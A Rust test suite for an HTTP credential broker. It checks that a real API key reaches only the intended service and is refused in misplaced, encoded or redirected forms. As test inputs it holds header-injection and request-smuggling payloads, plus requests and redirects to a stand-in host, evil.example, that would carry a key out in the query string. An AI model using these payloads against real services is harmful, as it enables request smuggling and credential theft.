//! B1 to B9: what a request carries. The service gets exactly what was checked, and nobody else the credential.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use http::{HeaderMap, Request};
use http_body::Frame;
use http_body_util::{BodyExt as _, StreamBody};
use keyhole_host_api::apps::CustomPlace;
use keyhole_host_api::broker::{Body, BodyError, Decision};
use keyhole_tests::host::{scope, send};
use keyhole_tests::server::{Authority, Server, answer};
use percent_encoding::percent_decode_str;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::rig::*;

const URL: &str = "https://api.acme.example/v1/echo";
/// Everything that an encoding must keep from being read as something else.
const AWKWARD: &str = r#"k%2F"\/..&=+ é;{}"#;

/// The whole of `text`, one frame a piece, with no length stated.
fn pieces(method: &str, url: &str, headers: &[(&str, &str)], text: &str, size: usize) -> Request<Body> {
    let frames: Vec<_> = text
        .as_bytes()
        .chunks(size)
        .map(|piece| Ok::<_, BodyError>(Frame::data(Bytes::copy_from_slice(piece))))
        .collect();
    request(method, url, headers, "").map(|_| StreamBody::new(futures_util::stream::iter(frames)).boxed_unsync())
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn unicode(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn b1_a_placeholder_goes_to_its_own_accounts_hosts_alone() {
    let scene = Scene::new().await;
    let ledger = scene.host.connect("alice", "ledger", &[("token", "ledger-token-4Vb8Nq")]).await;
    let mut open = scope("alice", &[("acme", "acme", Some(&scene.account)), ("ledger", "ledger", Some(&ledger))]);
    open.allow_hosts.push(EVIL.parse().unwrap());
    let run = Run::of(scene.broker.session(open), "acme").await;
    run.session.account("ledger").await.unwrap_or_else(|error| panic!("{error}"));
    for (what, url) in [
        ("another app's host", "https://ledger.example/entries"),
        ("an allowed host without an account", "https://evil.example/"),
        ("a host that is not allowed", "https://other.example/"),
    ] {
        let reason = run.refused(what, run.get(url).await);
        assert!(reason.contains("they go to api.acme.example"), "{what}: {reason}");
    }
    let uses = scene.uses().await;
    Scene::all_refused(&uses, 3);
    assert!(uses.iter().all(|used| used.account.as_deref() == Some(scene.account.as_str())));
    scene.untouched();
}

#[tokio::test(flavor = "multi_thread")]
async fn b2_the_urls_host_is_sent_whatever_the_step_says() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    for hosts in [&[EVIL][..], &[EVIL, HOST], &[HOST, EVIL], &["evil.example:443"]] {
        let mut headers = vec![("authorization", run.bearer.as_str())];
        headers.extend(hosts.iter().map(|host| ("host", *host)));
        assert_eq!(run.send(request("GET", URL, &headers, "")).await.unwrap().status, 200);
    }
    for got in scene.service.received() {
        let hosts: Vec<_> = got.headers.iter().filter(|(name, _)| name == "host").map(|(_, host)| host).collect();
        assert_eq!(hosts, [HOST]);
        assert!(!got.target.contains("://"), "{}", got.target);
    }
    assert!(scene.uses().await.iter().all(|used| used.host == HOST && used.decision == Decision::Allowed));
    assert_eq!(scene.evil.accepted(), 0);
}

#[test]
fn b2_b3_a_component_can_write_no_second_host_and_no_line_break() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], echo);
    guest.keyhole.lead(HOST, &service);
    let url = format!("https://{HOST}/v1/echo");
    let headers = [
        ("host", EVIL),
        ("Host", EVIL),
        (":authority", EVIL),
        ("x-a\r\nx-smuggled", "1"),
        ("x-a: 1\nx-smuggled", "1"),
        ("x-a\0", "1"),
        ("", "1"),
        ("x-a", "1\r\nx-smuggled: 1"),
        ("x-a", "1\nx-smuggled: 1"),
        ("x-a", "1\rx-smuggled: 1"),
        ("x-a", "1\0x-smuggled"),
    ];
    let mut requests: Vec<_> =
        headers.iter().map(|header| json!({"url": url, "account": true, "headers": [header]})).collect();
    for path in ["/a\r\nx-smuggled: 1", "/a HTTP/1.1\r\nx-smuggled: 1\r\n\r\n", "/a\nb", "/a\0b", "/?q=\r\n\r\nGET / "]
    {
        requests.push(json!({"url": format!("https://{HOST}{path}"), "account": true}));
    }
    let count = requests.len();
    let run = guest.attack("sequence", json!({ "requests": requests }), &[]);
    let found = run["return_value"].as_array().unwrap();
    assert_eq!(found.len(), count);
    assert!(found.iter().all(|found| !found["error"].is_null()), "{run:#}");
    assert_eq!(service.accepted(), 0);
    assert!(guest.audit().as_array().unwrap().iter().all(|used| used["decision"] == "refused"));
}

#[tokio::test(flavor = "multi_thread")]
async fn b3_line_breaks_end_no_line_in_a_path_nor_in_a_credential() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    // Encoded, they stay so.
    let target = "/v1/a%0d%0ax-smuggled:%201%00?q=%0D%0A";
    run.get(&format!("https://{HOST}{target}")).await.unwrap();
    let got = &scene.service.received()[0];
    assert_eq!(got.target, target);
    assert!(got.header("x-smuggled").is_none());
    assert_eq!(scene.uses().await.len(), 1);

    for bad in ["acme_live_x\r\nx-smuggled: 1", "acme_live_xxxxx\n", "acme_live_xxxxx\rx", "acme_live_xxxxx\0x"] {
        let fields = [("api_key".to_owned(), keyhole_host_api::vault::Secret::new(bad.to_owned()))].into();
        let given =
            keyhole_host_api::accounts::Connect { app: "acme".to_owned(), nickname: None, fields, custom: None };
        let refused = scene.host.accounts.connect(&keyhole_tests::host::member("alice"), given).await;
        let reason = refused.err().unwrap_or_else(|| panic!("{bad:?} was stored")).to_string();
        assert!(reason.contains("line break") && !reason.contains("xxxxx"), "{reason}");
    }
}

/// A service that keeps every byte of each connection, answers after one request and reads on.
fn listening(authority: &Authority, heard: Arc<Mutex<Vec<u8>>>) -> Server {
    Server::raw(authority, &[HOST], move |mut stream| {
        let heard = heard.clone();
        async move {
            let (mut all, mut buffer, mut answered) = (Vec::new(), [0; 4096], false);
            while let Ok(count @ 1..) = stream.read(&mut buffer).await {
                all.extend_from_slice(&buffer[..count]);
                if !answered && complete(&all) {
                    answered = true;
                    let _ =
                        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok").await;
                    let _ = stream.flush().await;
                }
            }
            heard.lock().unwrap().extend(all);
        }
    })
}

/// Whether the first request in `bytes` is whole.
fn complete(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes).to_lowercase();
    let Some((head, body)) = text.split_once("\r\n\r\n") else { return false };
    if head.contains("transfer-encoding: chunked") {
        return body.ends_with("0\r\n\r\n");
    }
    let length = head.split("content-length: ").nth(1).and_then(|rest| rest.split("\r\n").next());
    length.is_none_or(|length| body.len() >= length.parse().expect("a length"))
}

#[tokio::test(flavor = "multi_thread")]
async fn b4_nothing_turns_one_request_into_two_or_takes_the_credential_off() {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let scene = Scene::at(|authority| listening(authority, heard.clone())).await;
    let run = scene.run().await;
    let auth = ("authorization", run.bearer.as_str());
    let refused = [
        ("GET", ("connection", "authorization")),
        ("GET", ("connection", "close, Authorization")),
        ("GET", ("upgrade", "websocket")),
        ("GET", ("upgrade", "h2c")),
        ("POST", ("expect", "100-continue")),
        ("GET", ("proxy-authorization", "Basic eDp5")),
        ("CONNECT", ("x-a", "1")),
        ("TRACE", ("x-a", "1")),
        ("POST", ("content-length", "2, 4")),
    ];
    for (method, header) in refused {
        let url = if method == "CONNECT" { "https://api.acme.example/" } else { URL };
        run.refused(&format!("{method} {header:?}"), run.send(request(method, url, &[auth, header], "hi")).await);
    }
    // Two lengths, of a body too long to be read whole: whoever believes the second sees another request.
    for lengths in [["70000", "5"], ["70000", "70000"], ["5", "70000"]] {
        let headers = [auth, ("content-length", lengths[0]), ("content-length", lengths[1])];
        let outcome = run.send(pieces("POST", URL, &headers, &"x".repeat(70_000), 7_000)).await;
        run.refused(&format!("{lengths:?}"), outcome);
    }
    for length in ["+70000", "+2", "", "2, 2", "0x2", "2.0", "-1"] {
        let outcome = run.send(pieces("POST", URL, &[auth, ("content-length", length)], "hi", 1)).await;
        run.refused(length, outcome);
    }
    let refusals = refused.len() + 3 + 7;
    Scene::all_refused(&scene.uses().await, refusals);
    scene.untouched();

    // What is a matter of the connection is the client's own.
    let smuggled = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: api.acme.example\r\n\r\n";
    let te = [auth, ("transfer-encoding", "chunked"), ("te", "trailers"), ("trailer", "x-last"), ("keep-alive", "x")];
    run.send(request("POST", URL, &te, smuggled)).await.unwrap();
    let odd_te = [auth, ("transfer-encoding", "xchunked"), ("transfer-encoding", "identity")];
    run.send(pieces("POST", URL, &odd_te, smuggled, 7)).await.unwrap();
    // Trailers are dropped.
    let mut trailers = HeaderMap::new();
    trailers.insert("x-last", run.bearer.parse().unwrap());
    let frames = [Ok::<_, BodyError>(Frame::data(Bytes::from_static(b"hi"))), Ok(Frame::trailers(trailers))];
    let body = StreamBody::new(futures_util::stream::iter(frames)).boxed_unsync();
    run.send(request("POST", URL, &[auth], "").map(|_| body)).await.unwrap();
    // An absolute form is a path as any other.
    run.get("https://api.acme.example/https://evil.example/").await.unwrap();
    run.get("https://api.acme.example//evil.example/").await.unwrap();
    drop(run);
    scene.service.wait_until_idle();
    // The broker may keep no connection: the service said close.
    let heard = String::from_utf8(heard.lock().unwrap().clone()).unwrap();
    assert_eq!(heard.matches(&format!("authorization: Bearer {KEY}\r\n")).count(), 5, "{heard}");
    assert_eq!(heard.matches(&format!("host: {HOST}\r\n")).count(), 6, "five requests, and one in a body: {heard}");
    for head in heard.split(" HTTP/1.1\r\n").skip(1).filter_map(|rest| rest.split("\r\n\r\n").next()) {
        let (length, chunked) = (head.contains("content-length:"), head.contains("transfer-encoding:"));
        assert!(!(length && chunked), "{head}");
        assert!(!head.contains("xchunked") && !head.contains("identity") && !head.contains("keep-alive: x"), "{head}");
    }
    assert!(!heard.contains("x-last") && !heard.contains(&scene.account.to_string()), "{heard}");
    assert!(heard.contains("GET /https://evil.example/ ") && heard.contains("GET //evil.example/ "), "{heard}");
    assert!(scene.uses().await[refusals..].iter().all(|used| used.status == Some(200)));
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_an_encoded_placeholder_is_substituted_in_its_place_and_refused_elsewhere() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    let p = &run.placeholder;
    let (once, twice) = (percent(p), percent(&percent(p)));
    let (escaped, encoded) = (unicode(p), STANDARD.encode(p));
    let auth = ("authorization", run.bearer.as_str());

    // Where the definition allows it.
    let basic = format!("Basic {}", STANDARD.encode(format!("api:{p}")));
    run.send(request("GET", URL, &[("authorization", &basic)], "")).await.unwrap();
    run.get(URL).await.unwrap();
    run.send(request("GET", &format!("{URL}?key={once}"), &[], "")).await.unwrap();
    let got = scene.service.received();
    assert_eq!(got[0].header("authorization"), Some(&*format!("Basic {}", STANDARD.encode(format!("api:{KEY}")))));
    assert_eq!(got[1].header("authorization"), Some(&*format!("Bearer {KEY}")));
    assert_eq!(got[2].target, format!("/v1/echo?key={KEY}"));

    // Elsewhere, in every form that a server may decode.
    let refused = [
        request("GET", &format!("{URL}?key={twice}"), &[], ""),
        request("GET", &format!("{URL}?q={once}"), &[], ""),
        request("GET", &format!("{URL}?q={encoded}"), &[], ""),
        request("GET", &format!("{URL}/{twice}"), &[], ""),
        request("GET", &format!("{URL}/{encoded}"), &[], ""),
        request("GET", URL, &[("authorization", &format!("Bearer {encoded}"))], ""),
        request("GET", URL, &[("authorization", &format!("Bearer {once}"))], ""),
        request("GET", URL, &[("authorization", &format!("Basic {encoded}"))], ""),
        request("GET", URL, &[("cookie", &format!("a=b; k={p}"))], ""),
        request("GET", URL, &[("referer", &format!("https://x.example/?k={once}"))], ""),
        request("GET", URL, &[("x-json", &format!("\"{escaped}\""))], ""),
        request("POST", URL, &[auth], p),
        request("POST", URL, &[auth], &once),
        request("POST", URL, &[auth], &twice),
        request("POST", URL, &[auth], &format!("\"{escaped}\"")),
        request("POST", URL, &[auth], &format!("{{\"k\":\"{encoded}\"}}")),
        request(
            "POST",
            URL,
            &[auth, ("content-type", "multipart/form-data; boundary=b")],
            &format!("--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{p}\r\n--b--\r\n"),
        ),
        pieces("POST", URL, &[auth, ("content-length", &p.len().to_string())], p, 1),
    ];
    let count = refused.len();
    for request in refused {
        let what = format!("{} {:?}", request.uri(), request.headers());
        run.refused(&what, run.send(request).await);
    }
    Scene::all_refused(&scene.uses().await[3..], count);
    assert_eq!(scene.service.received().len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_a_placeholder_cut_across_chunks_cuts_the_request() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    for size in [1, 3, run.placeholder.len() - 1] {
        let text = format!("{}{}{}", "x".repeat(100), run.placeholder, "y".repeat(100));
        let outcome = run.send(pieces("POST", URL, &[], &text, size)).await;
        assert!(outcome.is_err(), "{size}");
    }
    assert!(!scene.service_got(&run.placeholder) && !scene.service_got(KEY));
    assert!(scene.uses().await.iter().all(|used| used.account.is_none() && used.status.is_none()));
    // Where a body is a place, it is read whole: the cut makes no difference.
    let account = scene.host.connect("alice", "ledger", &[("token", AWKWARD)]).await;
    let ledger = scene.run_with("ledger", &account).await;
    let body = format!(r#"{{"auth":{{"token":"{}"}}}}"#, ledger.placeholder);
    let headers = [("content-type", "application/json")];
    ledger.send(pieces("POST", "https://ledger.example/entries", &headers, &body, 1)).await.unwrap();
    let got: serde_json::Value = serde_json::from_slice(&scene.service.received().pop().unwrap().body).unwrap();
    assert_eq!(got["auth"]["token"], AWKWARD);
}

#[tokio::test(flavor = "multi_thread")]
async fn b5_a_form_that_nobody_decodes_leaves_as_a_worthless_string() {
    let scene = Scene::new().await;
    let run = scene.run().await;
    let p = &run.placeholder;
    let reversed: String = p.chars().rev().collect();
    let hex: String = p.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut gzip = async_compression::tokio::write::GzipEncoder::new(Vec::new());
    // With what can be compressed around it: it would stand there as it is otherwise.
    gzip.write_all(format!("{0}{p}{0}", "a note, ".repeat(50)).as_bytes()).await.unwrap();
    gzip.shutdown().await.unwrap();
    let gzip = gzip.into_inner();
    for body in [reversed.as_bytes(), hex.as_bytes(), &gzip] {
        let body = Bytes::copy_from_slice(body);
        let sent = request("POST", URL, &[("authorization", &run.bearer), ("content-encoding", "gzip")], "")
            .map(|_| http_body_util::Full::new(body.clone()).map_err(|never| match never {}).boxed_unsync());
        assert_eq!(run.send(sent).await.unwrap().status, 200);
        assert_eq!(scene.service.received().last().unwrap().body, body, "as the step wrote it");
    }
    // As a header's name it is in lower case: no longer a placeholder, and in no case the key.
    let named = run.send(request("GET", URL, &[(&p.to_lowercase(), "x")], "")).await;
    assert!(named.is_err() || scene.service_got(&p.to_lowercase()));
    assert!(!scene.service.received().iter().any(|got| got.headers.iter().any(|(name, _)| name.contains("9fq2xt"))));
    scene.uses().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn b6_a_placeholder_of_elsewhere_is_refused_like_a_guessed_one() {
    let scene = Scene::new().await;
    let bobs = scene.host.connect("bob", "acme", &[("api_key", "acme_live_bobs-own-key-2Gt7Hn4Kc")]).await;
    let earlier = scene.run().await.placeholder;
    let in_progress = scene.run().await;
    let of_bob = Run::of(scene.broker.session(scope("bob", &[("acme", "acme", Some(&bobs))])), "acme").await;
    let run = scene.run().await;
    let mut changed = run.placeholder.clone();
    let last = changed.pop().unwrap();
    changed.push(if last == 'a' { 'b' } else { 'a' });
    let guessed = format!("acme_live_khp1{}", "0".repeat(32));
    let nearly = format!("{}{}", &run.placeholder[..run.placeholder.len() - 1], "_");

    let mut reasons = Vec::new();
    let mut medians = Vec::new();
    let rounds = 60;
    let others = [&earlier, &in_progress.placeholder, &of_bob.placeholder, &guessed, &changed, &nearly];
    for placeholder in others {
        let bearer = format!("Bearer {placeholder}");
        let mut times = Vec::new();
        for _ in 0..rounds {
            let sent = request("GET", URL, &[("authorization", &bearer)], "");
            let began = Instant::now();
            let outcome = send(&run.session, sent).await;
            times.push(began.elapsed());
            reasons.push(refused(placeholder, outcome));
        }
        times.sort_unstable();
        medians.push(times[times.len() / 2]);
    }
    reasons.dedup();
    assert_eq!(reasons.len(), 1, "told apart by what is said: {reasons:?}");
    // Of one order; what a look-up takes is compared with care in host-api.
    let (least, most) = (medians.iter().min().unwrap(), medians.iter().max().unwrap());
    assert!(*most < *least * 4 + Duration::from_micros(200), "told apart by time: {medians:?}");
    let uses = scene.uses().await;
    Scene::all_refused(&uses, others.len() * rounds);
    assert!(uses.iter().all(|used| used.account.is_none()), "the audit names nobody's account either");
    scene.untouched();
}

#[tokio::test(flavor = "multi_thread")]
async fn b7_a_credential_arrives_exactly_in_every_place() {
    let scene = Scene::new().await;
    let text = |text: &str| text.to_owned();
    let places = vec![
        CustomPlace::Header { name: text("X-Key"), template: text("{key}") },
        CustomPlace::Query { name: text("k"), template: text("{key}") },
        CustomPlace::Basic { username: text("api"), password: text("{key}") },
    ];
    let account = scene.custom("custom.example", AWKWARD, places).await;
    let run = scene.run_with("custom", &account).await;
    let p = &run.placeholder;
    let url = "https://custom.example/";
    let basic = format!("Basic {}", STANDARD.encode(format!("api:{p}")));
    for sent in [
        request("GET", url, &[("x-key", p)], ""),
        request("GET", &format!("{url}?a=%20&k={p}&b"), &[], ""),
        request("GET", url, &[("authorization", &basic)], ""),
    ] {
        let answer = run.send(sent).await.unwrap();
        assert!(!seen(&answer).contains(AWKWARD));
    }
    let got = scene.service.received();
    assert_eq!(got[0].header("x-key"), Some(AWKWARD));
    let value = got[1].target.strip_prefix("/?a=%20&k=").and_then(|rest| rest.strip_suffix("&b")).unwrap();
    assert!(!value.contains('+') && !value.contains('&'));
    assert_eq!(percent_decode_str(value).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(got[2].header("authorization").unwrap(), format!("Basic {}", STANDARD.encode(format!("api:{AWKWARD}"))));

    let account = scene.host.connect("alice", "ledger", &[("token", AWKWARD)]).await;
    let run = scene.run_with("ledger", &account).await;
    let p = &run.placeholder;
    let url = "https://ledger.example/entries";
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let multipart = [("content-type", "multipart/form-data; boundary=b0")];
    let part =
        |value: &str| format!("--b0\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n{value}\r\n--b0--\r\n");
    let json_type = [("content-type", "application/json")];
    run.send(request("GET", &format!("https://ledger.example/bot{p}/getMe"), &[], "")).await.unwrap();
    run.send(request("POST", url, &json_type, &format!(r#"{{"auth":{{"token":"{p}"}}}}"#))).await.unwrap();
    run.send(request("POST", url, &form, &format!("a=1&token={p}"))).await.unwrap();
    run.send(request("POST", url, &multipart, &part(p))).await.unwrap();
    let got = &scene.service.received()[3..];
    let segment = got[0].target.strip_prefix("/bot").and_then(|rest| rest.strip_suffix("/getMe")).unwrap();
    assert_eq!(percent_decode_str(segment).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&got[1].body).unwrap()["auth"]["token"], AWKWARD);
    let value = std::str::from_utf8(&got[2].body).unwrap().strip_prefix("a=1&token=").unwrap();
    assert_eq!(percent_decode_str(value).decode_utf8().unwrap(), AWKWARD);
    assert_eq!(String::from_utf8_lossy(&got[3].body), part(AWKWARD));
    let uses = scene.uses().await;
    assert!(uses.len() == 7 && uses.iter().all(|used| used.status == Some(200) && !used.path.contains("%22")));
}

#[tokio::test(flavor = "multi_thread")]
async fn b8_a_credential_can_be_stored_at_the_service_only_where_it_belongs() {
    // The service keeps the last body, and shows it to whoever asks.
    let kept = Arc::new(Mutex::new(Vec::new()));
    let keeper = kept.clone();
    let scene = Scene::at(move |authority| {
        Server::http(authority, &["ledger.example"], move |got| {
            let mut kept = keeper.lock().unwrap();
            if got.method == "POST" {
                kept.clone_from(&got.body);
            }
            answer(200, "application/json", kept.clone())
        })
    })
    .await;
    let token = "ledger-token-7Yw3Qm9Zx1";
    let account = scene.host.connect("alice", "ledger", &[("token", token)]).await;
    let run = scene.run_with("ledger", &account).await;
    let (p, url, json_type) = (&run.placeholder, "https://ledger.example/note", [("content-type", "application/json")]);

    let note = |text: &str| format!(r#"{{"note":"{text}","auth":{{"token":"{p}"}}}}"#);
    run.refused("a note", run.send(request("POST", url, &json_type, &note(p))).await);
    run.refused("a note alone", run.send(request("PUT", url, &json_type, &format!(r#"{{"note":"{p}"}}"#))).await);
    Scene::all_refused(&scene.uses().await, 2);
    scene.untouched();

    // In the place that is allowed it is kept, and comes back as the placeholder.
    let reversed: String = p.chars().rev().collect();
    run.send(request("POST", url, &json_type, &note(&reversed))).await.unwrap();
    assert!(String::from_utf8_lossy(&kept.lock().unwrap()).contains(token));
    let read = seen(&run.send(request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains(p.as_str()) && !read.contains(token), "{read}");

    // In a later run: before it asks for the account, and after.
    let mut later = scope("alice", &[("ledger", "ledger", Some(&account))]);
    later.run = "run-2".to_owned();
    let session = scene.broker.session(later);
    let read = seen(&send(&session, request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains("‹ledger.token›") && !read.contains(token) && !read.contains(p.as_str()), "{read}");
    let later = Run::of(session, "ledger").await;
    let read = seen(&later.send(request("GET", url, &[], "")).await.unwrap());
    assert!(read.contains(&later.placeholder) && !read.contains(token), "{read}");
    // What was kept of the earlier run's placeholder is worth nothing.
    assert!(read.contains(&reversed));
    let old = format!(r#"{{"auth":{{"token":"{p}"}}}}"#);
    later.refused("the earlier one", later.send(request("POST", url, &json_type, &old)).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn b9_each_hop_of_a_redirect_is_a_request_under_the_same_checks() {
    let scene = Scene::at(|authority| {
        Server::http(authority, &[HOST], |got| {
            let key = got.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
            let (status, to) = match got.target.as_str() {
                "/host" => (302, "https://evil.example/?from=acme".to_owned()),
                "/port" => (301, format!("https://{HOST}:8443/")),
                "/http" => (303, format!("http://{HOST}/")),
                "/body" => (307, "https://evil.example/".to_owned()),
                "/key" => (302, format!("https://evil.example/?k={key}")),
                "/30" => (200, String::new()),
                hop => (302, format!("/{}", hop[1..].parse::<u32>().expect("a hop") + 1)),
            };
            let mut answer = answer(status, "text/plain", "");
            answer.headers_mut().insert("location", to.parse().unwrap());
            answer
        })
    })
    .await;
    let run = scene.run().await;
    let auth = ("authorization", run.bearer.as_str());
    let at = |path: &str| format!("https://{HOST}{path}");

    for (number, path) in ["/host", "/port", "/http", "/body", "/key"].into_iter().enumerate() {
        let hop = run.send(request("POST", &at(path), &[auth], "a body")).await.unwrap();
        assert_eq!(hop.status / 100, 3, "the step sees the redirect itself");
        assert_eq!((scene.service.received().len(), scene.evil.accepted()), (number + 1, 0), "{path}");
        assert!(!seen(&hop).contains(KEY));
        let to = hop.headers["location"].to_str().unwrap().to_owned();
        assert_eq!(path == "/key", to.contains(&run.placeholder));
        run.refused(&to, run.send(request("POST", &to, &[auth], "a body")).await);
    }
    // Whoever follows on without the header carries what the query has.
    run.refused(
        "in the query",
        run.send(request("GET", &format!("https://{EVIL}/?k={}", run.placeholder), &[], "")).await,
    );

    let mut to = "/0".to_owned();
    let mut hops = 0;
    loop {
        let hop = run.get(&at(&to)).await.unwrap();
        if hop.status == 200 {
            break;
        }
        to = hop.headers["location"].to_str().unwrap().to_owned();
        hops += 1;
    }
    assert_eq!(hops, 30);
    let uses = scene.uses().await;
    assert_eq!(uses.iter().filter(|used| used.decision == Decision::Allowed).count(), 5 + 31, "one record a hop");
    assert_eq!(uses.iter().filter(|used| used.decision == Decision::Refused).count(), 6);
    assert_eq!(scene.evil.accepted(), 0);
}

#[test]
fn b9_a_component_is_led_nowhere_by_a_redirect() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], |got| {
        let mut answer = answer(307, "text/plain", "");
        let key = got.header("authorization").unwrap_or_default();
        answer.headers_mut().insert("location", format!("https://evil.example/?k={key}").parse().unwrap());
        answer
    });
    let evil = Server::http(&guest.keyhole.authority, &[EVIL], echo);
    guest.keyhole.lead(HOST, &service);
    guest.keyhole.lead(EVIL, &evil);
    let requests = json!([
        {"url": format!("https://{HOST}/"), "account": true, "method": "POST", "body": "a body"},
        {"url": "https://evil.example/?k={api_key}"},
    ]);
    let run = guest.attack("sequence", json!({ "requests": requests }), &["--allow-host", EVIL]);
    let found = &run["return_value"];
    assert_eq!(found[0]["status"], 307, "{run:#}");
    assert!(found[0]["headers"].to_string().contains("‹acme.api_key›"), "{run:#}");
    assert!(found[1]["error"].as_str().is_some_and(|error| error.contains("refused")), "{run:#}");
    assert_eq!((service.received().len(), evil.accepted()), (1, 0));
    assert_eq!(guest.audit().as_array().unwrap().len(), 2);
}
